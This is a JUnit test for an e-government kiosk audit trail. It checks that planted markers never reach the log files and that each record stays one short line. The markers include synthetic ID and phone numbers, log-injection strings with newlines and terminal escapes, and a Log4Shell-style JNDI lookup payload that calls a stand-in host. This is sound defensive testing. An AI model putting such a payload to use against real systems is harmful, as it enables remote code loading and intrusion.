package egov.kiosk.audit;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import egov.kiosk.audit.store.Segment;
import egov.kiosk.domain.audit.AuditAction;
import egov.kiosk.domain.audit.AuditActor;
import egov.kiosk.domain.audit.AuditAttribute;
import egov.kiosk.domain.audit.AuditCode;
import egov.kiosk.domain.audit.AuditEvent;
import egov.kiosk.domain.audit.AuditResult;
import egov.kiosk.domain.audit.AuditSubject;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Attack tests H04 and H06: what is planted wherever text goes in never comes out. */
class MarkerTest {
  private static final List<String> MARKERS =
      List.of(
          "11010519491231002X",
          "110105194912310021",
          "13812345678",
          "欧阳测试",
          "Ouyang Ceshi",
          "two\nlines",
          "cr\r\nlf",
          "esc\u001b[31m",
          "u\u2028v",
          "${jndi:ldap://evil.test/x}",
          "m".repeat(1 << 20));

  @TempDir Path temp;

  @Test
  @DisplayName("H04 H06 markers in every field: one line a record, and no marker in any file")
  void h06_markersInEveryField_inNoFile() throws Exception {
    Lab lab = new Lab(temp.resolve("log"));
    try (AuditTrail trail = lab.open()) {
      for (String marker : MARKERS) {
        trail.record(
            AuditEvent.of(AuditActor.staff(marker), AuditAction.STAFF_CHECK, AuditResult.REFUSED)
                .about(AuditSubject.order(marker))
                .with(AuditAttribute.REASON, AuditCode.orOther(marker))
                .with(AuditAttribute.ITEM, AuditCode.orOther(marker))
                .with(AuditAttribute.COUNT, 110105194912310021L));
      }
      trail.beat();
    }
    try (var files = Files.list(lab.directory)) {
      for (Path file : files.toList()) {
        String content = Files.readString(file, StandardCharsets.ISO_8859_1);
        for (String marker : MARKERS) {
          String bytes =
              new String(marker.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1);
          assertFalse(content.contains(bytes), file + " holds " + MARKERS.indexOf(marker));
        }
      }
    }
    List<String> lines = Files.readAllLines(Segment.list(lab.directory).get(0).path());
    assertEquals(1 + MARKERS.size() + 1, lines.size());
    assertTrue(lines.stream().allMatch(line -> line.length() < 2048));
  }
}
